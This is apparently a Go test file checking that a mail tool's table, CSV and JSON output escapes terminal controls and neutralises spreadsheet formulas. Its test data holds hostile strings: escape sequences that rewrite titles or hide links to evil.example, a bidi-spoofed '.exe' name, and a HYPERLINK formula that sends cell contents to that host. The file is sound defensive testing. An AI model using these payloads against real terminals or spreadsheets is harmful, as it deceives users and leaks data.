package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/clipperhouse/displaywidth"
)

// hostileTexts are what a remote server, a sender or a DNS record can put
// in a field cpmail prints.
var hostileTexts = []string{
	"550 \x1b]0;owned\x07 mailbox \x1b[2J full",
	"see \x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\ now",
	"user\u202egnp.exe@example.com",
	"nul\x00 bel\x07 del\x7f c1\u009b31m csi\u0085",
	"信箱已滿\x1b[31m請清理\u202e空間後再試 e\u0301e\u0301",
	"bad \xff\xfe utf8 \xe2\x80 cut",
	"isolate \u2066x\u2069 sep\u2028end\u2029",
}

// mustBeClean fails the test when s holds a byte or rune a terminal acts on.
func mustBeClean(t *testing.T, what, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s: invalid UTF-8 in %q", what, s)
	}
	for _, r := range s {
		if r != '\n' && unsafeRune(r, utf8.RuneLen(r), false) {
			t.Errorf("%s: %U reaches the output: %q", what, r, s)
			return
		}
	}
}

func TestWriteTableEscapesEveryCell(t *testing.T) {
	for _, width := range []int{0, 60} {
		var b bytes.Buffer
		rows := [][]string{{"clean", "also clean"}}
		for _, h := range hostileTexts {
			rows = append(rows, []string{h, "x" + h})
		}
		if err := WriteTable(&b, []string{"A\x1b[1m", "B"}, rows, TableOptions{Width: width}); err != nil {
			t.Fatal(err)
		}
		mustBeClean(t, "table", b.String())
		for _, want := range []string{`\x1b[1m`, `\x1b]0;owned\x07`, `user\u202egnp`, `nul\x00`, `\u009b31m`} {
			if width == 0 && !strings.Contains(b.String(), want) {
				t.Errorf("width %d: %q not shown escaped in\n%s", width, want, b.String())
			}
		}
	}
}

// escapeUnit is the form of each escape Safe writes.
var escapeUnit = regexp.MustCompile(`\\(x[0-9a-f]{2}|u[0-9a-f]{4})`)

func TestTruncateHostileTextAtEveryWidth(t *testing.T) {
	for _, h := range hostileTexts {
		safe := Safe(h)
		for width := 1; width <= 80; width++ {
			for _, in := range []string{h, safe} { // raw, and already escaped
				got := Truncate(in, width)
				mustBeClean(t, "Truncate", got)
				if w := displaywidth.String(got); w > width {
					t.Errorf("Truncate(%q, %d) = %q is %d columns wide", in, width, got, w)
				}
				kept := strings.TrimSuffix(got, "…")
				if !strings.HasPrefix(safe, kept) {
					t.Fatalf("Truncate(%q, %d) = %q is not a prefix of %q", in, width, got, safe)
				}
				for _, e := range escapeUnit.FindAllStringIndex(safe, -1) {
					if len(kept) > e[0] && len(kept) < e[1] {
						t.Errorf("Truncate(%q, %d) = %q cuts the escape %s", in, width, got, safe[e[0]:e[1]])
					}
				}
				if got != safe && !strings.HasSuffix(got, "…") {
					t.Errorf("Truncate(%q, %d) = %q: cut without an ellipsis", in, width, got)
				}
			}
		}
	}
	// A grapheme cluster stays whole: e + combining acute is one column.
	if got := Truncate("e\u0301e\u0301e\u0301", 2); got != "e\u0301…" {
		t.Errorf("Truncate kept %q", got)
	}
	if got := Truncate("信箱已滿", 4); got != "信…" {
		t.Errorf("Truncate(CJK, 4) = %q", got)
	}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	for _, first := range []string{"=", "+", "-", "@", "\t", "\r"} {
		cell := first + `=HYPERLINK("http://evil.example/?"&A1,"click")`
		var b bytes.Buffer
		if err := WriteCSV(&b, []string{"message"}, [][]string{{cell}}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%q: %v %q", first, err, b.String())
		}
		got := recs[1][0]
		// = + - @ are prefixed with a quote; a tab or CR is shown escaped
		// (\x09), which a spreadsheet does not skip either.
		want := "'" + cell
		if first == "\t" || first == "\r" {
			want = Safe(cell)
		}
		if got != want || strings.ContainsAny(got[:1], "=+-@\t\r") {
			t.Errorf("cell beginning with %q written as %q, want %q: a spreadsheet runs it", first, got, want)
		}
		mustBeClean(t, "csv", b.String())
	}
	// OWASP's example: the quote inside is doubled, the field quoted, so
	// the ; cannot start a second cell that is a formula.
	var b bytes.Buffer
	if err := WriteCSV(&b, nil, [][]string{{`=1+2";=1+2`, "a;=1+2", "-12", "-0.5", "-1e+06", "-1-2", "@x", "plain"}}); err != nil {
		t.Fatal(err)
	}
	if want := `"'=1+2"";=1+2","a;=1+2",-12,-0.5,-1e+06,"'-1-2","'@x",plain` + "\n"; b.String() != want {
		t.Errorf("csv =\n%q\nwant\n%q", b.String(), want)
	}
}

func TestCSVWriterEscapesControls(t *testing.T) {
	var b bytes.Buffer
	w := NewCSVWriter(&b)
	for _, h := range hostileTexts {
		if err := w.Write([]string{h, "two\nlines"}); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	mustBeClean(t, "csv", b.String())
	if lines := strings.Count(b.String(), "\n"); lines != len(hostileTexts) {
		t.Errorf("%d lines for %d records: a cell spans lines\n%s", lines, len(hostileTexts), b.String())
	}
	if !strings.Contains(b.String(), `user\u202egnp.exe`) {
		t.Errorf("bidi control not shown escaped: %s", b.String())
	}
}

func TestJSONEscapesBidiAndC1(t *testing.T) {
	in := "a\u202eb \u0085c \x7fd \u2066e\u2069 \x1b[2J 中文"
	check := func(what string, out []byte) {
		t.Helper()
		mustBeClean(t, what, string(out))
		for _, want := range []string{`\u202e`, `\u0085`, `\u007f`, `\u2066`, `\u001b`} {
			if !bytes.Contains(out, []byte(want)) {
				t.Errorf("%s: %s not escaped in %s", what, want, out)
			}
		}
		if !bytes.Contains(out, []byte("中文")) {
			t.Errorf("%s: CJK escaped too: %s", what, out)
		}
	}
	var b bytes.Buffer
	if err := WriteJSON(&b, map[string]string{"m": in}); err != nil {
		t.Fatal(err)
	}
	check("WriteJSON", b.Bytes())
	var back map[string]string
	if err := json.Unmarshal(b.Bytes(), &back); err != nil || back["m"] != in {
		t.Errorf("round trip: %q %v", back["m"], err)
	}
	b.Reset()
	_ = WriteJSONLine(&b, in)
	check("WriteJSONLine", b.Bytes())
	b.Reset()
	a := NewJSONArrayWriter(&b)
	_ = a.Write(in)
	_ = a.Close()
	check("JSONArrayWriter", b.Bytes())
	check("AppendString", AppendString(nil, in))

	// Another encoder's output, written a byte at a time (runes cut
	// between writes).
	raw, _ := json.Marshal(map[string]string{"m": in})
	b.Reset()
	sw := NewJSONSafeWriter(&b)
	for i := range raw {
		if _, err := sw.Write(raw[i : i+1]); err != nil {
			t.Fatal(err)
		}
	}
	if err := sw.Flush(); err != nil {
		t.Fatal(err)
	}
	check("JSONSafeWriter", b.Bytes())
	if err := json.Unmarshal(b.Bytes(), &back); err != nil || back["m"] != in {
		t.Errorf("JSONSafeWriter round trip: %q %v", back["m"], err)
	}
}

func TestTableRowEscapesAndAligns(t *testing.T) {
	widths := []int{6, 12, 10}
	for _, cut := range []bool{false, true} {
		for _, h := range hostileTexts {
			line := TableRow([]string{"failure", h, "信箱" + h, "last"}, widths, cut)
			mustBeClean(t, "TableRow", line)
			if !cut {
				if !strings.Contains(line, Safe(h)) {
					t.Errorf("TableRow without cut lost text: %q", line)
				}
				continue
			}
			// Each cut cell fills its column: the last one starts where
			// the widths say.
			if i := strings.LastIndex(line, "  last"); i < 0 || displaywidth.String(line[:i+2]) != 6+2+12+2+10+2 {
				t.Errorf("TableRow(cut) misaligned: %q", line)
			}
		}
	}
	if got := TableRow([]string{"a", "b  "}, []int{3, 3}, false); got != "a    b" {
		t.Errorf("TableRow = %q, want trailing blanks trimmed", got)
	}
}
